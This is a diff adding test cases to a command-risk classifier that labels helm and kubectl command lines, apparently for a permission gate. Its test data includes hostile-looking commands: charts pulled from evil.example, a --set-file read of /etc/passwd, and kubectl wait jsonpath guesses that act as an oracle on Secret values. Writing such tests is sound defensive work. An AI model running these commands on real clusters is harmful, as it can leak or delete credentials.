@@ -134,6 +134,23 @@ CREDENTIALS = [
     ("helm template api ./chart -f /etc/phigate/values.yaml", A),
     ("helm template api ./chart -f values.yaml --set a=b", R),
     ("helm template api ./chart --set-file a=/etc/passwd", A),
+    # round 21c finding 1: a render that contacts the cluster runs the chart's lookups
+    ("helm template api ./chart --dry-run", R),
+    ("helm template api ./chart --dry-run=client", R),
+    ("helm template api ./chart --dry-run=true", R),
+    ("helm template api ./chart --dry-run=server", E),
+    ("helm template api ./chart --dry-run=Server", E),
+    ("helm template api ./chart --dry-run=none", E),
+    ("helm template api ./chart --dry-run=false", E),
+    ("helm template api ./chart --dry-run=", E),
+    ("helm template api ./chart --validate", E),
+    ("helm template api ./chart --validate=true", E),
+    ("helm template api ./chart --validate=false", R),
+    ("helm install api ./chart --dry-run", W),
+    ("helm install api ./chart --dry-run=server", E),
+    ("helm upgrade api ./chart --dry-run", E),
+    ("helm upgrade api ./chart --dry-run=client", E),
+    ("helm rollback api 2 --dry-run", W),
     ("helm install api oci://evil.example/charts/api", A),
     ("helm template api https://evil.example/api-1.0.tgz", A),
     ("helm template api /etc/phigate", A),
@@ -187,6 +204,19 @@ PRINTED = [
     ("kubectl wait --for=create secret/db-pass -o name", R),
     ("kubectl wait --for=create secret/db-pass", R),
     ("kubectl wait --for=condition=Ready pod/api-1 -o yaml", R),
+    # Round 21c finding 2: a command testing a Secret's content against a guess is an
+    # oracle on it (exit code or `***` diff), whatever it prints.
+    ("kubectl wait secret/db-pass --for=jsonpath={.data.password}=Z3Vlc3M=", E),
+    ("kubectl wait secret/db-pass --for jsonpath={.data.password}=Z3Vlc3M=", E),
+    ("kubectl wait Secrets --all --for=condition=Ready", E),
+    ("kubectl wait pod/api-1,secret/db-pass --for=jsonpath={.data.k}=x", E),
+    ("kubectl wait secret/db-pass --for=Delete", R),
+    ("kubectl wait pod/api-1 --for=jsonpath={.status.phase}=Running", R),
+    ("kubectl wait --for=jsonpath={.status.phase}=Running pods --all", R),
+    ("kubectl describe secrets --field-selector=type=kubernetes.io/tls", E),
+    ("kubectl delete secrets --field-selector=metadata.name=db-pass", E),
+    ("kubectl describe pods --field-selector=status.phase=Running", R),
+    ("kubectl describe secrets", R),
     ("kubectl label secret db-pass tier=web -o yaml", E),
     ("kubectl annotate secrets/db-pass a=b --output=json", E),
     ("kubectl label secret db-pass tier=web", W),
@@ -269,6 +299,9 @@ def test_a_manifest_in_the_working_directory_is_classified_by_its_kinds() -> Non
         ["describe", "-f", "db.yaml"],
         ["wait", "--for=create", "-f", "db.yaml", "-o", "yaml"],
         ["apply", "-f", "db.yaml", "-o", "json"],
+        # testing it against a guess: an oracle on its data (round 21c finding 2)
+        ["wait", "--for=jsonpath={.data.password}=x", "-f", "db.yaml"],
+        ["diff", "-f", "db.yaml"],
     ):
         assert classify_argv(["kubectl", *argv], SETS, None, files.get).risk is E
     for argv in (["apply", "-f", "db.yaml"], ["apply", "-f", "db.yaml", "-o", "name"]):
